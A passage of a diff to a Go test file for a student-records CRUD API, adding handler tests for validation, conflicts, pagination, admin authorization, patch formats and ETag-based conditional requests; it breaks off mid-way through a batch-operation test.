@@ -2,24 +2,39 @@ package handlers_test
 
 import (
 	"bytes"
+	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"mime/multipart"
 	"net/http"
 	"net/http/httptest"
 	"strconv"
+	"strings"
+	"time"
 
+	"students-crud/internal/audit"
 	"students-crud/internal/handlers"
 	mock_handlers "students-crud/internal/handlers/mock"
 	"students-crud/internal/models"
+	"students-crud/internal/service"
+	"students-crud/internal/status"
+	"students-crud/internal/validation"
 	"testing"
 
 	"github.com/gin-gonic/gin"
 	"github.com/go-playground/assert/v2"
 	"github.com/golang/mock/gomock"
+	"github.com/xuri/excelize/v2"
 )
 
+var testLogger = slog.New(slog.NewTextHandler(io.Discard, nil))
+
 func TestHandlers_CreateStudent(t *testing.T) {
-	type mockBehavior func(s *mock_handlers.MockStorage, student *models.Student)
+	type mockBehavior func(s *mock_handlers.MockStudentService, student *models.Student)
 
 	testCases := []struct {
 		name                string
@@ -36,12 +51,55 @@ func TestHandlers_CreateStudent(t *testing.T) {
 				Name:  "Student #1",
 				Email: "#1@mail.com",
 			},
-			mockBehaviour: func(s *mock_handlers.MockStorage, student *models.Student) {
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
 				s.EXPECT().Create(gomock.Any(), student).Return(1, nil)
 			},
 			expectedStatusCode:  201,
 			expectedRequestBody: `{"id":1}`,
 		},
+		{
+			name:      "Illegal Initial Status",
+			inputBody: `{"name": "Student #6","email": "#6@mail.com","status": "graduated"}`,
+			inputStudent: models.Student{
+				Name:   "Student #6",
+				Email:  "#6@mail.com",
+				Status: models.StatusGraduated,
+			},
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
+				s.EXPECT().Create(gomock.Any(), student).Return(0, status.CheckInitial(student.Status))
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"illegal_transition","error":"illegal status transition"}`,
+		},
+		{
+			name:      "Validation Failed",
+			inputBody: `{"name": "   ","email": "not-an-email"}`,
+			inputStudent: models.Student{
+				Name:  "   ",
+				Email: "not-an-email",
+			},
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
+				s.EXPECT().Create(gomock.Any(), student).Return(0, validation.Errors{
+					{Field: "name", Rule: "required", Message: "is required"},
+					{Field: "email", Rule: "rfc5322", Message: "must be a valid email address"},
+				})
+			},
+			expectedStatusCode:  422,
+			expectedRequestBody: `{"code":"validation_failed","error":"validation failed","fields":[{"field":"name","rule":"required","message":"is required"},{"field":"email","rule":"rfc5322","message":"must be a valid email address"}]}`,
+		},
+		{
+			name:      "Email Taken",
+			inputBody: `{"name": "Student #3","email": "#1@mail.com"}`,
+			inputStudent: models.Student{
+				Name:  "Student #3",
+				Email: "#1@mail.com",
+			},
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
+				s.EXPECT().Create(gomock.Any(), student).Return(0, fmt.Errorf("storage.postgres.Create: %w", service.ErrEmailTaken))
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"email_taken","error":"email already taken"}`,
+		},
 		{
 			name:      "Error on Create",
 			inputBody: `{"name": "Student #2","email": "#2@mail.com"}`,
@@ -49,7 +107,7 @@ func TestHandlers_CreateStudent(t *testing.T) {
 				Name:  "Student #2",
 				Email: "#2@mail.com",
 			},
-			mockBehaviour: func(s *mock_handlers.MockStorage, student *models.Student) {
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
 				s.EXPECT().Create(gomock.Any(), student).Return(0, errors.New("failed to create student"))
 			},
 			expectedStatusCode:  500,
@@ -62,10 +120,10 @@ func TestHandlers_CreateStudent(t *testing.T) {
 			c := gomock.NewController(t)
 			defer c.Finish()
 
-			storage := mock_handlers.NewMockStorage(c)
-			testCase.mockBehaviour(storage, &testCase.inputStudent)
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students, &testCase.inputStudent)
 
-			handlers := handlers.NewHandlers(storage)
+			handlers := handlers.NewHandlers(students, testLogger)
 
 			r := gin.Default()
 			r.POST("/students", handlers.CreateStudent)
@@ -83,7 +141,7 @@ func TestHandlers_CreateStudent(t *testing.T) {
 }
 
 func TestHandlers_ReadStudent(t *testing.T) {
-	type mockBehavior func(s *mock_handlers.MockStorage, id int)
+	type mockBehavior func(s *mock_handlers.MockStudentService, id int)
 
 	testCases := []struct {
 		name                string
@@ -95,7 +153,7 @@ func TestHandlers_ReadStudent(t *testing.T) {
 		{
 			name:    "OK",
 			inputID: 1,
-			mockBehaviour: func(s *mock_handlers.MockStorage, id int) {
+			mockBehaviour: func(s *mock_handlers.MockStudentService, id int) {
 				s.EXPECT().Read(gomock.Any(), id).Return(&models.Student{
 					ID:    id,
 					Name:  "Student #1",
@@ -108,16 +166,25 @@ func TestHandlers_ReadStudent(t *testing.T) {
 		{
 			name:    "Not Found",
 			inputID: 2,
-			mockBehaviour: func(s *mock_handlers.MockStorage, id int) {
-				s.EXPECT().Read(gomock.Any(), id).Return(nil, errors.New("student not found")) // Возвращаем ошибку
+			mockBehaviour: func(s *mock_handlers.MockStudentService, id int) {
+				s.EXPECT().Read(gomock.Any(), id).Return(nil, service.ErrNotFound) // Возвращаем ошибку
 			},
 			expectedStatusCode:  404,
 			expectedRequestBody: `{"error":"student not found"}`,
 		},
+		{
+			name:    "Failed to Read Student",
+			inputID: 3,
+			mockBehaviour: func(s *mock_handlers.MockStudentService, id int) {
+				s.EXPECT().Read(gomock.Any(), id).Return(nil, errors.New("connection refused"))
+			},
+			expectedStatusCode:  500,
+			expectedRequestBody: `{"error":"failed to read student"}`,
+		},
 		{
 			name:    "Invalid ID",
 			inputID: -1, // Неверный ID для проверки
-			mockBehaviour: func(s *mock_handlers.MockStorage, id int) {
+			mockBehaviour: func(s *mock_handlers.MockStudentService, id int) {
 				// Никаких вызовов не требуется для Invalid ID
 			},
 			expectedStatusCode:  400,
@@ -130,12 +197,12 @@ func TestHandlers_ReadStudent(t *testing.T) {
 			c := gomock.NewController(t)
 			defer c.Finish()
 
-			storage := mock_handlers.NewMockStorage(c)
+			students := mock_handlers.NewMockStudentService(c)
 			if testCase.name != "Invalid ID" {
-				testCase.mockBehaviour(storage, testCase.inputID)
+				testCase.mockBehaviour(students, testCase.inputID)
 			}
 
-			handlers := handlers.NewHandlers(storage)
+			handlers := handlers.NewHandlers(students, testLogger)
 
 			r := gin.Default()
 			r.GET("/students/:id", handlers.ReadStudent)
@@ -158,7 +225,7 @@ func TestHandlers_ReadStudent(t *testing.T) {
 }
 
 func TestHandlers_UpdateStudent(t *testing.T) {
-	type mockBehavior func(s *mock_handlers.MockStorage, student *models.Student)
+	type mockBehavior func(s *mock_handlers.MockStudentService, student *models.Student)
 
 	testCases := []struct {
 		name                string
@@ -172,7 +239,7 @@ func TestHandlers_UpdateStudent(t *testing.T) {
 			name:      "OK",
 			inputID:   1,
 			inputBody: `{"name": "Updated Student","email": "updated@mail.com"}`,
-			mockBehaviour: func(s *mock_handlers.MockStorage, student *models.Student) {
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
 				s.EXPECT().Update(gomock.Any(), student).Return(nil)
 			},
 			expectedStatusCode:  200,
@@ -184,7 +251,7 @@ func TestHandlers_UpdateStudent(t *testing.T) {
 			inputBody:           `{"name": "Updated Student","email": "updated@mail.com"}`,
 			expectedStatusCode:  400,
 			expectedRequestBody: `{"error":"invalid id"}`,
-			mockBehaviour:       func(s *mock_handlers.MockStorage, student *models.Student) {}, // No call expected
+			mockBehaviour:       func(s *mock_handlers.MockStudentService, student *models.Student) {}, // No call expected
 		},
 		{
 			name:                "Failed to Read Request Body",
@@ -192,13 +259,33 @@ func TestHandlers_UpdateStudent(t *testing.T) {
 			inputBody:           `invalid json`,
 			expectedStatusCode:  400,
 			expectedRequestBody: `{"error":"failed to unmarshal data"}`,
-			mockBehaviour:       func(s *mock_handlers.MockStorage, student *models.Student) {}, // No call expected
+			mockBehaviour:       func(s *mock_handlers.MockStudentService, student *models.Student) {}, // No call expected
+		},
+		{
+			name:      "Not Found",
+			inputID:   2,
+			inputBody: `{"name": "Updated Student","email": "updated@mail.com"}`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
+				s.EXPECT().Update(gomock.Any(), student).Return(service.ErrNotFound)
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"error":"student not found"}`,
+		},
+		{
+			name:      "Email Taken",
+			inputID:   3,
+			inputBody: `{"name": "Updated Student","email": "taken@mail.com"}`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
+				s.EXPECT().Update(gomock.Any(), student).Return(service.ErrEmailTaken)
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"email_taken","error":"email already taken"}`,
 		},
 		{
 			name:      "Failed to Update Student",
 			inputID:   1,
 			inputBody: `{"name": "Updated Student","email": "updated@mail.com"}`,
-			mockBehaviour: func(s *mock_handlers.MockStorage, student *models.Student) {
+			mockBehaviour: func(s *mock_handlers.MockStudentService, student *models.Student) {
 				s.EXPECT().Update(gomock.Any(), student).Return(errors.New("failed to update student"))
 			},
 			expectedStatusCode:  500,
@@ -211,15 +298,15 @@ func TestHandlers_UpdateStudent(t *testing.T) {
 			c := gomock.NewController(t)
 			defer c.Finish()
 
-			storage := mock_handlers.NewMockStorage(c)
+			students := mock_handlers.NewMockStudentService(c)
 			var student models.Student
 			if testCase.name != "Invalid ID" && testCase.name != "Failed to Read Request Body" {
 				json.Unmarshal([]byte(testCase.inputBody), &student)
 				student.ID = testCase.inputID
-				testCase.mockBehaviour(storage, &student)
+				testCase.mockBehaviour(students, &student)
 			}
 
-			handlers := handlers.NewHandlers(storage)
+			handlers := handlers.NewHandlers(students, testLogger)
 
 			r := gin.Default()
 			r.PUT("/students/:id", handlers.UpdateStudent)
@@ -243,7 +330,7 @@ func TestHandlers_UpdateStudent(t *testing.T) {
 }
 
 func TestHandlers_DeleteStudent(t *testing.T) {
-	type mockBehavior func(s *mock_handlers.MockStorage, id int)
+	type mockBehavior func(s *mock_handlers.MockStudentService, id int)
 
 	testCases := []struct {
 		name                string
@@ -255,8 +342,8 @@ func TestHandlers_DeleteStudent(t *testing.T) {
 		{
 			name:    "OK",
 			inputID: 1,
-			mockBehaviour: func(s *mock_handlers.MockStorage, id int) {
-				s.EXPECT().Delete(gomock.Any(), id).Return(nil)
+			mockBehaviour: func(s *mock_handlers.MockStudentService, id int) {
+				s.EXPECT().Delete(gomock.Any(), id, 0).Return(nil)
 			},
 			expectedStatusCode:  200,
 			expectedRequestBody: `{"message":"student deleted successfully"}`,
@@ -264,17 +351,26 @@ func TestHandlers_DeleteStudent(t *testing.T) {
 		{
 			name:    "Invalid ID",
 			inputID: -1, // Неверный ID для проверки
-			mockBehaviour: func(s *mock_handlers.MockStorage, id int) {
+			mockBehaviour: func(s *mock_handlers.MockStudentService, id int) {
 				// Никаких вызовов не требуется для Invalid ID
 			},
 			expectedStatusCode:  400,
 			expectedRequestBody: `{"error":"invalid id"}`,
 		},
+		{
+			name:    "Not Found",
+			inputID: 2,
+			mockBehaviour: func(s *mock_handlers.MockStudentService, id int) {
+				s.EXPECT().Delete(gomock.Any(), id, 0).Return(service.ErrNotFound)
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"error":"student not found"}`,
+		},
 		{
 			name:    "Failed to Delete Student",
 			inputID: 1,
-			mockBehaviour: func(s *mock_handlers.MockStorage, id int) {
-				s.EXPECT().Delete(gomock.Any(), id).Return(errors.New("failed to delete student"))
+			mockBehaviour: func(s *mock_handlers.MockStudentService, id int) {
+				s.EXPECT().Delete(gomock.Any(), id, 0).Return(errors.New("failed to delete student"))
 			},
 			expectedStatusCode:  500,
 			expectedRequestBody: `{"error":"failed to delete student"}`,
@@ -286,12 +382,12 @@ func TestHandlers_DeleteStudent(t *testing.T) {
 			c := gomock.NewController(t)
 			defer c.Finish()
 
-			storage := mock_handlers.NewMockStorage(c)
+			students := mock_handlers.NewMockStudentService(c)
 			if testCase.name != "Invalid ID" {
-				testCase.mockBehaviour(storage, testCase.inputID)
+				testCase.mockBehaviour(students, testCase.inputID)
 			}
 
-			handlers := handlers.NewHandlers(storage)
+			handlers := handlers.NewHandlers(students, testLogger)
 
 			r := gin.Default()
 			r.DELETE("/students/:id", handlers.DeleteStudent)
@@ -312,3 +408,1835 @@ func TestHandlers_DeleteStudent(t *testing.T) {
 		})
 	}
 }
+
+func TestHandlers_ListStudents(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	testCases := []struct {
+		name                string
+		query               string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:  "OK",
+			query: "?limit=1&name=Stud&email_domain=@mail.com&sort=-name",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().List(gomock.Any(), models.ListParams{
+					Limit:       1,
+					Name:        "Stud",
+					EmailDomain: "mail.com",
+					SortBy:      models.SortByName,
+					Desc:        true,
+				}).Return(&models.StudentList{
+					Students:   []models.Student{{ID: 2, Name: "Student #2", Email: "#2@mail.com"}},
+					Total:      2,
+					NextCursor: "next",
+				}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"students":[{"id":2,"name":"Student #2","email":"#2@mail.com"}],"total":2,"next_cursor":"next"}`,
+		},
+		{
+			name:  "Defaults",
+			query: "",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().List(gomock.Any(), models.ListParams{
+					Limit:  20,
+					SortBy: models.SortByID,
+				}).Return(&models.StudentList{Students: []models.Student{}}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"students":[],"total":0}`,
+		},
+		{
+			name:                "With Deleted Requires Admin",
+			query:               "?with_deleted=true",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  403,
+			expectedRequestBody: `{"error":"with_deleted requires admin access"}`,
+		},
+		{
+			name:                "Invalid Limit",
+			query:               "?limit=1000",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid limit"}`,
+		},
+		{
+			name:                "Invalid Sort",
+			query:               "?sort=password",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid sort"}`,
+		},
+		{
+			name:                "Cursor With Offset",
+			query:               "?cursor=abc&offset=10",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"cursor and offset are mutually exclusive"}`,
+		},
+		{
+			name:  "Invalid Cursor",
+			query: "?cursor=abc",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().List(gomock.Any(), gomock.Any()).Return(nil, service.ErrInvalidCursor)
+			},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid cursor"}`,
+		},
+		{
+			name:  "Failed to List Students",
+			query: "",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().List(gomock.Any(), gomock.Any()).Return(nil, errors.New("failed to list students"))
+			},
+			expectedStatusCode:  500,
+			expectedRequestBody: `{"error":"failed to list students"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.GET("/students", handlers.ListStudents)
+
+			req, _ := http.NewRequest(http.MethodGet, "/students"+testCase.query, nil)
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_AdminListStudents(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	testCases := []struct {
+		name                string
+		query               string
+		authorization       string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:          "With Deleted",
+			query:         "?with_deleted=true",
+			authorization: "Bearer secret",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				deletedAt := time.Date(2024, 9, 1, 12, 0, 0, 0, time.UTC)
+				s.EXPECT().List(gomock.Any(), models.ListParams{
+					Limit:       20,
+					SortBy:      models.SortByID,
+					WithDeleted: true,
+				}).Return(&models.StudentList{
+					Students: []models.Student{{ID: 1, Name: "Student #1", Email: "#1@mail.com", DeletedAt: &deletedAt}},
+					Total:    1,
+				}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"students":[{"id":1,"name":"Student #1","email":"#1@mail.com","deleted_at":"2024-09-01T12:00:00Z"}],"total":1}`,
+		},
+		{
+			name:                "Invalid Flag",
+			query:               "?with_deleted=maybe",
+			authorization:       "Bearer secret",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid with_deleted flag"}`,
+		},
+		{
+			name:                "Unauthorized",
+			query:               "?with_deleted=true",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  401,
+			expectedRequestBody: `{"error":"unauthorized"}`,
+		},
+		{
+			name:                "Wrong Token",
+			query:               "?with_deleted=true",
+			authorization:       "Bearer guess",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  403,
+			expectedRequestBody: `{"error":"forbidden"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			adminOnly := handlers.AdminOnly("secret")
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			admin := r.Group("/admin", adminOnly)
+			admin.GET("/students", handlers.AdminListStudents)
+
+			req, _ := http.NewRequest(http.MethodGet, "/admin/students"+testCase.query, nil)
+			if testCase.authorization != "" {
+				req.Header.Set("Authorization", testCase.authorization)
+			}
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+// applyPatchTo строит патч по current, как это делает сервис, и сверяет его с expected
+func applyPatchTo(t *testing.T, current *models.Student, expected models.StudentPatch, result *models.Student) func(context.Context, int, int, func(*models.Student) (models.StudentPatch, error)) (*models.Student, error) {
+	return func(_ context.Context, _, _ int, build func(*models.Student) (models.StudentPatch, error)) (*models.Student, error) {
+		patch, err := build(current)
+		if err != nil {
+			return nil, err
+		}
+
+		assert.Equal(t, expected, patch)
+		return result, nil
+	}
+}
+
+func TestHandlers_PatchStudent(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	name := "Patched Student"
+	email := "patched@mail.com"
+	phone := "+79991234567"
+	middleName := "Petrovich"
+	empty := ""
+	current := &models.Student{ID: 1, Name: "Student #1", Email: "#1@mail.com"}
+
+	testCases := []struct {
+		name                string
+		contentType         string
+		inputBody           string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:        "Merge Patch OK",
+			contentType: "application/merge-patch+json",
+			inputBody:   `{"name": "Patched Student"}`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Patch(gomock.Any(), 1, models.StudentPatch{Name: &name}).
+					Return(&models.Student{ID: 1, Name: name, Email: current.Email}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"id":1,"name":"Patched Student","email":"#1@mail.com"}`,
+		},
+		{
+			name:                "Merge Patch Removes Required Field",
+			contentType:         "application/merge-patch+json",
+			inputBody:           `{"email": null}`,
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  422,
+			expectedRequestBody: `{"code":"validation_failed","error":"validation failed","fields":[{"field":"email","rule":"required","message":"is required"}]}`,
+		},
+		{
+			name:        "Merge Patch Profile",
+			contentType: "application/merge-patch+json",
+			inputBody:   `{"middle_name": "Petrovich", "phone": null, "birth_date": null}`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Patch(gomock.Any(), 1, models.StudentPatch{MiddleName: &middleName, Phone: &empty, Clear: []string{models.FieldBirthDate}}).
+					Return(&models.Student{ID: 1, Name: current.Name, Email: current.Email, MiddleName: middleName}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"id":1,"name":"Student #1","email":"#1@mail.com","middle_name":"Petrovich"}`,
+		},
+		{
+			name:                "Merge Patch Read-Only Field",
+			contentType:         "application/merge-patch+json",
+			inputBody:           `{"status": "graduated"}`,
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid patch: status is read-only"}`,
+		},
+		{
+			name:                "Merge Patch Unknown Field",
+			contentType:         "application/json",
+			inputBody:           `{"age": 20}`,
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid patch: unknown field \"age\""}`,
+		},
+		{
+			name:        "JSON Patch OK",
+			contentType: "application/json-patch+json",
+			inputBody:   `[{"op": "test", "path": "/email", "value": "#1@mail.com"}, {"op": "replace", "path": "/email", "value": "patched@mail.com"}]`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().ApplyPatch(gomock.Any(), 1, 0, gomock.Any()).
+					DoAndReturn(applyPatchTo(t, current, models.StudentPatch{Email: &email}, &models.Student{ID: 1, Name: current.Name, Email: email}))
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"id":1,"name":"Student #1","email":"patched@mail.com"}`,
+		},
+		{
+			name:        "JSON Patch Replace Empty Field",
+			contentType: "application/json-patch+json",
+			inputBody:   `[{"op": "test", "path": "/phone", "value": null}, {"op": "replace", "path": "/phone", "value": "+79991234567"}]`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().ApplyPatch(gomock.Any(), 1, 0, gomock.Any()).
+					DoAndReturn(applyPatchTo(t, current, models.StudentPatch{Phone: &phone}, &models.Student{ID: 1, Name: current.Name, Email: current.Email, Phone: phone}))
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"id":1,"name":"Student #1","email":"#1@mail.com","phone":"+79991234567"}`,
+		},
+		{
+			name:        "JSON Patch Test Failed",
+			contentType: "application/json-patch+json",
+			inputBody:   `[{"op": "test", "path": "/email", "value": "other@mail.com"}, {"op": "replace", "path": "/email", "value": "patched@mail.com"}]`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().ApplyPatch(gomock.Any(), 1, 0, gomock.Any()).DoAndReturn(applyPatchTo(t, current, models.StudentPatch{}, nil))
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"patch_test_failed","error":"patch test failed"}`,
+		},
+		{
+			name:        "JSON Patch Read-Only ID",
+			contentType: "application/json-patch+json",
+			inputBody:   `[{"op": "replace", "path": "/id", "value": 2}]`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().ApplyPatch(gomock.Any(), 1, 0, gomock.Any()).DoAndReturn(applyPatchTo(t, current, models.StudentPatch{}, nil))
+			},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid patch: id is read-only"}`,
+		},
+		{
+			name:                "Unsupported Content Type",
+			contentType:         "text/plain",
+			inputBody:           `name=Student`,
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  415,
+			expectedRequestBody: `{"error":"unsupported content type"}`,
+		},
+		{
+			name:        "Not Found",
+			contentType: "application/merge-patch+json",
+			inputBody:   `{"name": "Patched Student"}`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Patch(gomock.Any(), 1, gomock.Any()).Return(nil, service.ErrNotFound)
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"error":"student not found"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.PATCH("/students/:id", handlers.PatchStudent)
+
+			req, _ := http.NewRequest(http.MethodPatch, "/students/1", bytes.NewBufferString(testCase.inputBody))
+			req.Header.Set("Content-Type", testCase.contentType)
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_ConditionalRequests(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	testCases := []struct {
+		name                string
+		method              string
+		headers             map[string]string
+		inputBody           string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedETag        string
+		expectedRequestBody string
+	}{
+		{
+			name:   "Read Emits ETag",
+			method: http.MethodGet,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Read(gomock.Any(), 1).Return(&models.Student{ID: 1, Name: "Student #1", Email: "#1@mail.com", Version: 3}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedETag:        `"3"`,
+			expectedRequestBody: `{"id":1,"name":"Student #1","email":"#1@mail.com"}`,
+		},
+		{
+			name:    "Read Not Modified",
+			method:  http.MethodGet,
+			headers: map[string]string{"If-None-Match": `"2", W/"3"`},
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Read(gomock.Any(), 1).Return(&models.Student{ID: 1, Name: "Student #1", Email: "#1@mail.com", Version: 3}, nil)
+			},
+			expectedStatusCode:  304,
+			expectedETag:        `"3"`,
+			expectedRequestBody: ``,
+		},
+		{
+			name:      "Update With Matching Version",
+			method:    http.MethodPut,
+			headers:   map[string]string{"If-Match": `"3"`},
+			inputBody: `{"name": "Updated Student","email": "updated@mail.com"}`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Update(gomock.Any(), &models.Student{ID: 1, Name: "Updated Student", Email: "updated@mail.com", Version: 3}).
+					DoAndReturn(func(_ context.Context, student *models.Student) error {
+						student.Version = 4
+						return nil
+					})
+			},
+			expectedStatusCode:  200,
+			expectedETag:        `"4"`,
+			expectedRequestBody: `{"message":"student updated successfully"}`,
+		},
+		{
+			name:      "Update With Stale Version",
+			method:    http.MethodPut,
+			headers:   map[string]string{"If-Match": `"2"`},
+			inputBody: `{"name": "Updated Student","email": "updated@mail.com"}`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Update(gomock.Any(), gomock.Any()).Return(service.ErrVersionConflict)
+			},
+			expectedStatusCode:  412,
+			expectedRequestBody: `{"code":"version_conflict","error":"version conflict"}`,
+		},
+		{
+			name:    "Delete With Stale Version In List",
+			method:  http.MethodDelete,
+			headers: map[string]string{"If-Match": `"1", "2"`},
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Read(gomock.Any(), 1).Return(&models.Student{ID: 1, Version: 3}, nil)
+			},
+			expectedStatusCode:  412,
+			expectedRequestBody: `{"code":"version_conflict","error":"version conflict"}`,
+		},
+		{
+			name:    "Delete With Matching Version",
+			method:  http.MethodDelete,
+			headers: map[string]string{"If-Match": `"3"`},
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Delete(gomock.Any(), 1, 3).Return(nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"message":"student deleted successfully"}`,
+		},
+		{
+			name:                "Invalid If-Match",
+			method:              http.MethodDelete,
+			headers:             map[string]string{"If-Match": `3`},
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid If-Match header"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.GET("/students/:id", handlers.ReadStudent)
+			r.PUT("/students/:id", handlers.UpdateStudent)
+			r.DELETE("/students/:id", handlers.DeleteStudent)
+
+			req, _ := http.NewRequest(testCase.method, "/students/1", bytes.NewBufferString(testCase.inputBody))
+			for key, value := range testCase.headers {
+				req.Header.Set(key, value)
+			}
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedETag, rec.Header().Get("ETag"))
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_BatchStudents(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	testCases := []struct {
+		name                string
+		path                string
+		contentType         string
+		inputBody           string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:        "JSON Array With Invalid Item",
+			path:        "/students:batch",
